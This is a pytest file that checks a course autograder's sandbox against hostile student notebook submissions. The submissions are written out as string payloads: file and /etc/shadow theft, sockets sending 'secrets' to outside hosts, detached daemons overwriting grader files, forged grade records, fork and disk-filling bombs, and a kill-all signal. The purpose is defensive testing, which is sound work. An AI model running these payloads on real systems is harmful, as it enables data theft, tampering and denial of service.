"""Hostile submissions: graded in the sandbox, none gains anything, harms anyone, or leaves anything behind.

One class (honest students and attackers) is graded once with ``grade --jobs 2`` in a
subprocess; each test then checks one attacker, or one promise for everyone. The tests skip
where bubblewrap cannot run, unless ``CNN_COURSE_REQUIRE_SANDBOX=1`` (CI) makes that a failure.
"""
from __future__ import annotations

import contextlib
import csv
import ctypes
import hashlib
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from grader.engine import sandbox
from grader.engine.gradebook import cached_template
from tests.conftest import children_of
from tests.course_copies import grade_rows
from tests.test_hostile_metadata import TAMPERED, tampered

ROOT = Path(__file__).resolve().parent.parent
A = "02_padding_stride"
REQUIRED = os.environ.get("CNN_COURSE_REQUIRE_SANDBOX") == "1"
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(bool(sandbox.problem()) and not REQUIRED,
                                 reason=f"no sandbox here: {sandbox.problem()}")]


def test_the_sandbox_can_be_made_here():
    assert sandbox.problem() is None


# --- the class -----------------------------------------------------------------------------------


@pytest.fixture(scope="module", autouse=True)
def _built(built_course):
    import tests.test_pipeline as pipeline
    pipeline.BUILT = built_course  # its helpers (solved, student) read the built course from there


def notebook(kind: str, before_tests: str = "", cells: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """``kind`` "blank" (the student version) or "solved"; ``before_tests`` a plain cell after the
    imports; ``cells`` replaces solution cells by grade_id."""
    from tests.course_copies import with_sources
    from tests.test_pipeline import solved, student

    nb = with_sources(solved(A) if kind == "solved" else nbformat.read(student(A), as_version=4), cells or {})
    if before_tests:
        setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
        nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(textwrap.dedent(before_tests)))
    return nb


# Paths an attacker would try; baked into the submissions as literals (they know the layout).
def _targets(out: Path, klass: Path) -> list[str]:
    home = Path.home()
    return [str(p) for p in (
        ROOT / "grader" / "course" / "reference.py", ROOT / "grader" / "course" / "mistakes.py",
        ROOT / "grader" / "course" / "notebooks" / f"nb{A}" / "reference.py", ROOT / "solutions" / A / f"{A}.py",
        ROOT / "cnn_course" / "checks.py", ROOT / "nbgrader_config.py", ROOT / "grader" / "hidden.py",
        out / "gradebook.db", out / "grades.csv", out / "feedback" / "alice" / A / f"{A}.html",
        out / "submitted" / "alice" / A / f"{A}.ipynb", out / ".shards" / f"0--{A}" / "gradebook.db",
        klass / f"alice__{A}.ipynb", home / ".cache" / "cnn-course" / "gradebooks", home / ".bashrc", "/etc/shadow",
        home / ".cache")]


THIEF = """
import os, sys, pathlib, importlib, cnn_course
targets = [t for t in TARGETS if "/cnn_course/" not in t]  # the student package is readable by design
here = pathlib.Path(cnn_course.__file__).resolve().parents[1]
targets += [str(here / "solutions"), str(here / "grader" / "course" / "reference.py"), str(here / "grader")]
for path in targets:
    p = pathlib.Path(path)
    try:
        text = p.read_bytes()[:50] if p.is_file() else sorted(os.listdir(p))[:5]
        print("LE" + "AK", path, text)
    except Exception as error:
        print("refused", path, type(error).__name__)
for name in ("grader.course.reference", "grader.course.mistakes", "grader.course.verdict", "grader.course.catalogue",
             "grader.course.notebooks.nb02_padding_stride.reference", "grader.engine.batch"):
    try:
        importlib.import_module(name)
        print("LE" + "AK import", name)
    except Exception as error:
        print("refused import", name, type(error).__name__)
try:
    from grader.course.reference import conv_output_size, pad2d, same_padding, receptive_field
except Exception:
    pass
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr", str(pathlib.Path(sys.prefix)), sys.base_prefix)):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith(("reference.py", "mistakes.py", ".db")) or name.startswith("02_padding_stride.py"):
            print("LE" + "AK found", os.path.join(root, name))
print("env", sorted(os.environ))
"""

SABOTEUR = """
import os, time, pathlib
targets = TARGETS
def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(50):  # 50 detached children that should outlive grading
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    end = time.time() + 40
    while time.time() < end:  # during grading, and after grade has exited
        for path in targets:
            p = pathlib.Path(path)
            try:
                if p.is_dir():
                    (p / "planted.txt").write_text("owned")
                else:
                    p.write_text("owned")
            except Exception:
                pass
            try:
                os.remove(path)
            except Exception:
                pass
        time.sleep(0.2)
    os._exit(0)
daemon()
time.sleep(1)
"""

FORGER = """
import cnn_course.record as record
from IPython.display import display
real_emit = record.emit
def emit(case_set_id, function, outcomes):
    if "conv_output_size" in case_set_id:  # claim success without the answers
        display({record.RECORD_MIME: {"id": case_set_id, "function": function, "outcomes": "all correct"}}, raw=True)
    elif case_set_id == "test_pad2d_hidden":  # the real record, and a second one
        real_emit(case_set_id, function, outcomes)
        real_emit(case_set_id, function, outcomes)
    elif case_set_id == "test_same_padding_hidden":  # a forged array header: 10**11 floats in 24 bytes
        import base64, io, numpy as np
        buffer = io.BytesIO()
        np.save(buffer, np.zeros(3))
        raw = buffer.getvalue().replace(b"(3,)", b"(100000000000,)")
        bomb = {"value": {"__ndarray__": base64.b64encode(raw).decode()}}
        real_emit(case_set_id, function, [bomb] * len(outcomes))
    else:
        real_emit(case_set_id, function, outcomes)
record.emit = emit
"""

NETWORK = """
import socket
for address in [("127.0.0.1", PORT), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"secrets")
        print("LE" + "AK connected", address)
    except OSError as error:
        print("refused", address, error)
"""

FILLER = """
import json, os
block = b"x" * (1 << 20)
sockets = os.path.dirname(json.load(open("/run/cnn-course/connection.json"))["ip"])  # its IPC sockets' folder
for folder in ("/tmp", ".", "/dev/shm", sockets):
    written = 0
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as handle:
            while written < (4 << 30):
                handle.write(block)
                written += 1 << 20
    except OSError as error:
        print(folder, "full after", written >> 20, "MiB:", error)
    os.remove(os.path.join(folder, "fill.bin"))
"""

FORKER = """
import os, time
count = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        count += 1
except OSError as error:
    print("stopped after", count, "processes:", error)
"""

HANG = """
import time
def receptive_field(layers):
    while True:  # a loop that never ends; waiting in it (not spinning) leaves the CPU to tests running beside
        time.sleep(0.05)
"""

HOSTILE = {  # student: (base, plain cell before the tests, replaced solution cells)
    "thief": ("blank", THIEF, {}),
    "thief2": ("blank", "", {"conv_output_size": "from grader.course.reference import conv_output_size\n",
                             "pad2d": "exec(open(__import__('cnn_course').__file__.rsplit('/', 2)[0] + "
                                      "'/solutions/02_padding_stride/02_padding_stride.py').read())\n"}),
    "saboteur": ("blank", SABOTEUR, {}),
    "forger": ("solved", FORGER, {}),
    "killer": ("solved", "import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)\n", {}),
    "network": ("solved", NETWORK, {}),
    "hog": ("solved", "import numpy as np\nhog = np.ones(400_000_000)\n", {}),
    "forker": ("solved", FORKER, {}),
    "filler": ("solved", FILLER, {}),
    "hang": ("solved", "", {"receptive_field": HANG}),
}


def _tree_hashes(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder``, skipping the venv, git and the caches Python, pytest and JupyterLab
    write (the browser tests, running beside this one, open notebooks: JupyterLab keeps checkpoints)."""
    hashes = {}
    for path in sorted(folder.rglob("*")) if folder.exists() else []:
        parts = set(path.parts)
        if path.is_file() and not parts & {".venv", ".git", "__pycache__", ".pytest_cache", ".hypothesis",
                                           ".ipynb_checkpoints"}:
            hashes[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


@contextlib.contextmanager
def descendants_seen():
    """A set that fills, while the block runs, with every process descended from this one (polled every 20 ms)."""
    seen, done = {os.getpid()}, threading.Event()

    def poll():
        while not done.is_set():
            frontier = [os.getpid()]
            while frontier:
                children = children_of(frontier.pop())
                seen.update(children)
                frontier.extend(children)
            done.wait(0.02)

    thread = threading.Thread(target=poll, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        done.set()
        thread.join()


def _leftovers(owners: set[int] | None = None) -> set[str]:
    """Sandbox work folders, IPC folders and cgroups that exist now and whose process is gone; with ``owners``,
    only those made by one of these processes (a test's own: another test run beside it may be killing its
    grading right now, and its launchers cleaning up after it).

    Their names carry the pid of the process that made them: one that is still alive belongs to
    grading that is still running (another test, run beside this one), not to a leftover.
    """
    found = {str(p) for folder in (Path(tempfile.gettempdir()), Path("/dev/shm")) if folder.is_dir()
             for prefix in (sandbox.PREFIX, sandbox.IPC_PREFIX) for p in folder.glob(prefix + "*")}
    for controller in ("memory", "pids"):
        own = sandbox._own_cgroup(controller)
        if own is not None:
            found |= {str(p) for p in (Path("/sys/fs/cgroup") / controller / own.lstrip("/")).glob(
                sandbox.CGROUP_PREFIX + "*")}
    return {path for path in found if not _owner_alive(path) and (owners is None or _owner(path) in owners)}


def _lasting_leftovers(owners: set[int], before: set[str], seconds: float = 15) -> set[str]:
    """``_leftovers(owners)`` not in ``before`` that are still there after up to ``seconds``: a sandbox launcher
    cleans up as it ends, which can be a moment after the grading process it served (on a loaded machine)."""
    deadline = time.monotonic() + seconds
    while (left := _leftovers(owners) - before) and time.monotonic() < deadline:
        time.sleep(0.2)
    return left


def _owner(path: str) -> int | None:
    match = re.search(r"cnn-course-(?:sandbox-|ipc-|worker-)?(\d+)", Path(path).name)
    return int(match.group(1)) if match else None


def _owner_alive(path: str) -> bool:
    owner = _owner(path)
    return owner is not None and Path(f"/proc/{owner}").exists()


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:300]
    except OSError:
        return "(gone)"


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, built_course):
    """Grade the class once, in a subprocess; return what the tests need to look at."""
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: escaped orphans become our children
    work = tmp_path_factory.mktemp("hostile")
    klass, out = work / "class", work / "course"
    klass.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    targets = _targets(out, klass)
    honest = {"alice": notebook("solved"), "bob": notebook("blank"),
              "carol": notebook("solved", cells={"pad2d": "def pad2d(x, pad, value=0.0):\n    return x.copy()\n"})}
    for name, (kind, plain, cells) in HOSTILE.items():
        code = plain.replace("TARGETS", repr(targets)).replace("PORT", str(listener.getsockname()[1]))
        honest[name] = notebook(kind, code, cells)
    honest.update(tampered(built_course))
    for name, nb in honest.items():
        nbformat.write(nb, klass / f"{name}__{A}.ipynb")
    template = cached_template(A)
    before = _tree_hashes(ROOT)
    leftovers_before = _leftovers()
    env = dict(os.environ, CNN_COURSE_KERNEL_MEMORY="768M", CNN_COURSE_KERNEL_SCRATCH="64M")
    with descendants_seen() as mine:
        run = subprocess.run([sys.executable, "-m", "grader", "grade", str(klass), "--out", str(out), "--jobs", "2",
                              "--timeout", "6"], capture_output=True, text=True, env=env, timeout=600)
    after_exit = _tree_hashes(out)
    time.sleep(3)  # a daemon that waits for grade to exit would strike now
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    table = grade_rows(out)
    return dict(run=run, out=out, klass=klass, table=table, before=before, after=_tree_hashes(ROOT),
                template_intact=hashlib.sha256(template.read_bytes()).hexdigest()
                == Path(f"{template}.sha256").read_text().strip(),
                out_after_exit=after_exit, out_later=_tree_hashes(out), connected=connected,
                leftovers=_lasting_leftovers(mine, leftovers_before), orphans=children_of(os.getpid()))


#: Tests that read the hostile class: on one pytest-xdist worker, so it is graded once.
CLASS = pytest.mark.xdist_group("sandbox-class")


def total(row) -> float:
    return float(row["total"] or 0)


def autograded_text(out: Path, student: str) -> str:
    path = out / "autograded" / student / A / f"{A}.ipynb"
    return path.read_text() if path.exists() else ""


def feedback_text(out: Path, student: str) -> str:
    path = out / "feedback" / student / A / f"{A}.html"
    return path.read_text() if path.exists() else ""


@CLASS
def test_every_student_has_a_row_and_honest_ones_are_graded_right(graded_class):
    table, run = graded_class["table"], graded_class["run"]
    assert set(table) == {"alice", "bob", "carol", *HOSTILE, *TAMPERED}, run.stdout + run.stderr
    assert run.returncode == 1  # some (the hog, the killer) could not be graded: said by the exit code
    assert total(table["alice"]) == float(table["alice"]["max_total"]) == 20
    assert total(table["bob"]) == 0
    assert total(table["carol"]) == 15 and float(table["carol"][f"{A}/test_pad2d_hidden"]) == 0
    for name, row in table.items():
        assert row["status"] in ("graded", "not_graded") and bool(row["reason"]) == (row["status"] != "graded"), \
            (name, row["status"], row["reason"])


@CLASS
def test_answers_cannot_be_imported_or_read_from_disk(graded_class):
    table, out = graded_class["table"], graded_class["out"]
    for name in ("thief", "thief2"):
        assert table[name]["status"] == "graded" and total(table[name]) == 0
    text = autograded_text(out, "thief")
    assert "refused import grader.course.reference" in text and "refused" in text
    assert "LEAK" not in text and "LEAK" not in feedback_text(out, "thief")
    env_line = next(line for line in text.splitlines() if "env [" in line)
    assert "AWS" not in env_line and "CNN_COURSE_KERNEL" not in env_line  # the grader's environment stays out


@CLASS
def test_forged_and_malformed_records_score_zero_and_the_rest_is_graded(graded_class):
    row = graded_class["table"]["forger"]
    assert row["status"] == "graded"
    for test in ("test_conv_output_size_visible", "test_conv_output_size_hidden", "test_pad2d_hidden",
                 "test_same_padding_hidden"):
        assert float(row[f"{A}/{test}"]) == 0, test
    for test in ("test_pad2d_visible", "test_same_padding_visible", "test_receptive_field_visible",
                 "test_receptive_field_hidden"):
        assert float(row[f"{A}/{test}"]) > 0, test
    assert "malformed" in feedback_text(graded_class["out"], "forger")


@CLASS
def test_nothing_outside_scratch_changes_during_or_after_grading(graded_class):
    before, after = graded_class["before"], graded_class["after"]
    assert {p for p in set(before) | set(after) if before.get(p) != after.get(p)} == set()
    assert graded_class["template_intact"]  # the template gradebook in ~/.cache
    assert graded_class["out_after_exit"] == graded_class["out_later"]  # nothing struck after grade exited
    assert not any("planted" in p for p in graded_class["out_later"])
    assert total(graded_class["table"]["saboteur"]) == 0


@CLASS
def test_no_network(graded_class):
    assert not graded_class["connected"]
    assert "LEAK" not in autograded_text(graded_class["out"], "network")
    assert total(graded_class["table"]["network"]) == 20  # honest code still works in the sandbox


@CLASS
def test_no_process_or_temporary_folder_is_left(graded_class):
    assert graded_class["orphans"] == []
    assert graded_class["leftovers"] == set()
    assert not (graded_class["out"] / ".shards").exists()


@CLASS
def test_killing_the_parent_reaches_nothing_outside_the_sandbox(graded_class):
    # os.kill(os.getppid(), 9) and os.kill(-1, 9) only reach the sandbox's own PID namespace, where
    # the parent is its init: the kernel lives on, the killer is graded on its (correct) code.
    row = graded_class["table"]["killer"]
    assert row["status"] == "graded" and total(row) == 20


@CLASS
def test_tampered_metadata_is_graded_against_the_release(graded_class):
    """Each tampered notebook (tests/test_hostile_metadata.py) holds the right answers: 20 of 20, none NOT GRADED."""
    table = graded_class["table"]
    assert {name: (table[name]["status"], total(table[name])) for name in TAMPERED} == {
        name: ("graded", 20) for name in TAMPERED}


@CLASS
def test_memory_bomb_is_stopped_by_the_limit(graded_class):
    row = graded_class["table"]["hog"]
    assert row["status"] == "not_graded" and "kernel died" in row["reason"]


@CLASS
def test_fork_bomb_and_disk_filling_are_contained(graded_class):
    assert graded_class["table"]["filler"]["status"] == "graded"
    assert total(graded_class["table"]["filler"]) == 20
    text = autograded_text(graded_class["out"], "filler")
    assert "full after" in text  # the scratch space ran out, not the machine's disk
    assert graded_class["table"]["forker"]["status"] in ("graded",) or "kernel died" in \
        graded_class["table"]["forker"]["reason"]


@CLASS
def test_a_hanging_function_scores_zero_for_itself_only(graded_class):
    row = graded_class["table"]["hang"]
    assert row["status"] == "graded"
    assert float(row[f"{A}/test_receptive_field_hidden"]) == float(row[f"{A}/test_receptive_field_visible"]) == 0
    assert total(row) == 15


# --- a class that floods the grader with output ----------------------------------------------------

#: MB each flooder sends (issue 14 measured 600: 3-4 GB workers, a 1.8 GB main process).
FLOOD_MB = 200
#: Memory a grading worker may use in this run: the budget keeps floods far below it.
WORKER_LIMIT_MB = 600
#: Neither the budget nor the output socket's cap bounds a kernel's execute *reply*: only the worker's limit does.
REPLY_FLOOD = "get_ipython().payload_manager.write_payload({'source': 'x', 'data': 'x' * (450 << 20)})\n"


@pytest.fixture(scope="module")
def flooded_class(tmp_path_factory):
    """Two honest students, one flooder per class of ``grader.benchmark.FLOODS`` and one reply flooder, graded
    once with ``grade --jobs 2`` while the peak memory (VmHWM) of grade's processes is sampled from /proc."""
    from grader.benchmark import FLOODS, PeakMemory, flood_notebook

    work = tmp_path_factory.mktemp("floods")
    klass, out = work / "class", work / "course"
    klass.mkdir()
    students = {"alice": notebook("solved"), "bob": notebook("blank"), "replier": notebook("solved", REPLY_FLOOD)}
    for kind in FLOODS:
        students["flood-" + kind.replace(" ", "-")] = flood_notebook(notebook("solved"), kind, FLOOD_MB)
    for name, nb in students.items():
        nbformat.write(nb, klass / f"{name}__{A}.ipynb")
    env = dict(os.environ, CNN_COURSE_WORKER_MEMORY=f"{WORKER_LIMIT_MB}M", CNN_COURSE_KERNEL_MEMORY="3G")
    grade = subprocess.Popen([sys.executable, "-m", "grader", "grade", str(klass), "--out", str(out), "--jobs", "2"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    with PeakMemory(grade.pid) as peaks:
        stdout, stderr = grade.communicate(timeout=900)
    return dict(table=grade_rows(out), printed=stdout + stderr, peaks=peaks, main=grade.pid, floods=list(FLOODS))


FLOODED = pytest.mark.xdist_group("flooded-class")


@FLOODED
def test_output_floods_leave_the_grading_processes_memory_bounded(flooded_class):
    peaks = flooded_class["peaks"]
    assert peaks.largest("worker_main") < 700, peaks.peaks
    assert peaks.of(flooded_class["main"]) < 700, peaks.peaks


@FLOODED
def test_a_flooder_is_graded_on_its_code_and_its_classmates_are_graded_right(flooded_class):
    table = flooded_class["table"]
    assert total(table["alice"]) == 20 and total(table["bob"]) == 0, flooded_class["printed"]
    for kind in flooded_class["floods"]:  # solved notebooks: the flood costs them nothing
        row = table["flood-" + kind.replace(" ", "-")]
        assert (row["status"], total(row)) == ("graded", 20), (kind, row["status"])


@FLOODED
def test_a_flood_no_budget_foresaw_costs_only_its_own_submission(flooded_class):
    row = flooded_class["table"]["replier"]
    assert (row["status"], row["reason"]) == (
        "not_graded", f"grading it took more memory than a grading process may use ({WORKER_LIMIT_MB} MB)")


# --- units: the pieces the class run relies on -----------------------------------------------------


def test_a_changed_template_gradebook_is_remade(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    from nbgrader.api import Gradebook

    path = cached_template(A)
    tampered = path.read_bytes()[:-100] + b"\0" * 100
    path.write_bytes(tampered)
    remade = cached_template(A)
    assert remade.read_bytes() != tampered
    assert hashlib.sha256(remade.read_bytes()).hexdigest() == Path(f"{remade}.sha256").read_text().strip()
    with Gradebook(f"sqlite:///{remade}") as gb:
        assert gb.find_assignment(A).max_score == 20


def test_a_dead_worker_costs_only_its_submission_and_killing_grade_leaves_nothing(tmp_path):
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    klass, out = tmp_path / "class", tmp_path / "course"
    klass.mkdir()
    for name in ("ann", "ben", "cat", "dan"):  # 3 rows are awaited: one is still grading when grade is killed
        nbformat.write(notebook("solved"), klass / f"{name}__{A}.ipynb")
    leftovers, watching = _leftovers(), descendants_seen()
    mine = watching.__enter__()
    grade = subprocess.Popen([sys.executable, "-m", "grader", "grade", str(klass), "--out", str(out), "--jobs", "2"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def workers():
        return [p for p in children_of(grade.pid) if b"worker_main" in Path(f"/proc/{p}/cmdline").read_bytes()
                or Path(f"/proc/{p}/comm").read_text().strip() == "worker_main"]  # spawned, or forked

    def graded():
        try:
            with (out / "grades.csv").open() as handle:
                return {row["student_id"]: (row["status"], row["reason"]) for row in csv.DictReader(handle)}
        except OSError:
            return {}

    deadline = time.monotonic() + 120
    # Until a worker is grading: a shard has its gradebook (each of the 2 workers has a job of the 4 by then),
    # and the worker has a kernel (with the warm pool, a worker has one before its first job).
    while not (any((out / ".shards").glob("*/gradebook.db")) and any(children_of(w) for w in workers())) \
            and time.monotonic() < deadline:
        time.sleep(0.2)
    victim = next(w for w in workers() if children_of(w))
    os.kill(victim, signal.SIGKILL)
    while len(graded()) < 3 and time.monotonic() < deadline:
        time.sleep(0.2)
    statuses = graded()
    assert any("grading process died" in reason for _, reason in statuses.values()), statuses
    assert sum(status == "graded" for status, _ in statuses.values()) >= 1
    os.kill(grade.pid, signal.SIGKILL)  # the instructor's process dies: workers and kernels follow
    grade.wait()
    shards = out / ".shards"
    deadline = time.monotonic() + 30  # the workers clean up as they die: give a loaded machine time
    while (children_of(os.getpid()) or shards.exists()) and time.monotonic() < deadline:
        time.sleep(0.5)
    time.sleep(2)  # and the sandbox launchers theirs
    watching.__exit__(None, None, None)
    left = {pid: _cmdline(pid) for pid in children_of(os.getpid())}
    assert left == {}, left
    assert _lasting_leftovers(mine, leftovers) == set()
    assert not shards.exists(), sorted(str(p.relative_to(shards)) for p in shards.rglob("*"))
    assert set(graded()) >= set(statuses)  # every student finished before the kill is kept


def test_a_launcher_whose_parent_died_while_it_started_starts_nothing(tmp_path):
    """Killing grade at the wrong moment (a worker dies while a launcher is still starting Python, before
    it asks to follow its parent) must not leave a kernel waiting out the wall time: the launcher sees
    that its parent is not the process that started it (JPY_PARENT_PID) and stops at once."""
    leftovers = _leftovers()
    env = dict(os.environ, **{sandbox.PARENT: "1"})  # as if started by a process that is gone
    started = time.monotonic()
    with descendants_seen() as mine:
        run = subprocess.run([sys.executable, "-I", "-m", "grader.engine.sandbox", str(tmp_path / "kernel.json")],
                             cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    assert run.returncode == 143 and "is gone; not starting it" in run.stderr, run.stderr
    assert time.monotonic() - started < 30 and _leftovers(mine) - leftovers == set()
    assert list(tmp_path.iterdir()) == []


def test_printing_or_making_widgets_without_end_keeps_bounded_outputs_and_the_record(tmp_path):
    """A flood of printing (or of widgets) would fill the grader's memory until the cell's timeout (2 GB in
    15 s, measured): past ``cell_output_limit`` bytes a cell keeps only a note, its last error and a test
    cell's record; widget messages count too. The flooding cell's last outputs may come late on a loaded
    machine (nbgrader then raised CellTimeoutError out of the whole notebook): the cell keeps what came."""
    import json

    from cnn_course.record import RECORD_MIME
    from grader.engine.execute import SandboxedExecute

    flood = "import sys\nline = 'x' * 999 + '\\n'\nwhile True:\n    sys.stdout.write(line)\n"
    chatty = ("for _ in range(3000):\n    print('y' * 999)\n"
              f"display({{'{RECORD_MIME}': {{'id': 'kept'}}, 'text/plain': 'record'}}, raw=True)\n")
    widgets = "import ipywidgets\nkeep = []\nwhile True:\n    keep.append(ipywidgets.IntSlider(description='w' * 200))\n"
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code) for code in (flood, chatty, widgets)])
    nb.cells[1].metadata.nbgrader = {"grade": True, "solution": False, "grade_id": "kept", "points": 1}
    step = SandboxedExecute(timeout=3, cell_output_limit=200_000)
    nb, _ = step.preprocess(nb, {"metadata": {"path": str(tmp_path)}})
    for cell in nb.cells[:2]:
        text = sum(len(o.get("text", "")) for o in cell.outputs)
        assert text < 200_000 + 1_000, text
        assert any("output cut" in o.get("text", "") for o in cell.outputs), cell.outputs[-3:]
    assert [o.output_type for o in nb.cells[0].outputs if o.output_type == "error"]  # the timeout is kept
    assert [o for o in nb.cells[1].outputs if RECORD_MIME in (o.get("data") or {})]  # the test's record too
    saved = json.dumps(nb.metadata.get("widgets", {}))
    assert 10_000 < len(saved) < 2 * 200_000, len(saved)  # some widgets kept, then no more


LEAVER = """
import builtins, os, subprocess, sys, numpy
for path in ("left.txt", "/tmp/left.txt", "/tmp/home/left.txt", "/dev/shm/left.txt"):
    with open(path, "w") as handle:
        handle.write("amy was here")
os.environ["LEFT_BY_AMY"] = "1"
LEFT_BY_AMY = 1
builtins.LEFT_BY_AMY = 1
numpy.LEFT_BY_AMY = 1
sys.modules["left_by_amy"] = sys
subprocess.Popen(["sleep", "300"], start_new_session=True)
print("LEFT", "ok")
"""

LOOKER = """
import builtins, os, sys, numpy
seen = [path for path in ("left.txt", "/tmp/left.txt", "/tmp/home/left.txt", "/dev/shm/left.txt") if os.path.exists(path)]
seen += [what for what, there in (("env", "LEFT_BY_AMY" in os.environ), ("global", "LEFT_BY_AMY" in globals()),
                                  ("builtin", hasattr(builtins, "LEFT_BY_AMY")), ("numpy", hasattr(numpy, "LEFT_BY_AMY")),
                                  ("module", "left_by_amy" in sys.modules)) if there]
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if open(f"/proc/{pid}/cmdline", "rb").read().startswith(b"sleep"):
            seen.append("process")
    except OSError:
        pass
print("SEEN", sorted(seen))
"""


@pytest.mark.slow
def test_a_warm_kernel_is_one_students_the_next_sees_nothing_she_left(tmp_path):
    from grader.engine.batch import grade

    klass, out, profile = tmp_path / "class", tmp_path / "course", []
    klass.mkdir()
    nbformat.write(notebook("solved", LEAVER), klass / f"amy__{A}.ipynb")
    nbformat.write(notebook("solved", LOOKER), klass / f"ben__{A}.ipynb")
    leftovers_before = _leftovers()
    with descendants_seen() as mine:
        assert grade(str(klass), out, jobs=1, profile=profile) == 0  # one worker: ben's started during amy's
    table = grade_rows(out)
    assert total(table["amy"]) == total(table["ben"]) == 20
    assert "LEFT ok" in re.sub(r"[\"',\s]+", " ", autograded_text(out, "amy"))
    assert "SEEN []" in autograded_text(out, "ben")
    for entry in profile:  # both graded in a kernel started ahead of time, none started while they waited
        assert entry["phases"].get("kernel handover", 0) > 0 and entry["phases"].get("kernel start", 0) == 0, entry
    assert _lasting_leftovers(mine, leftovers_before) == set()
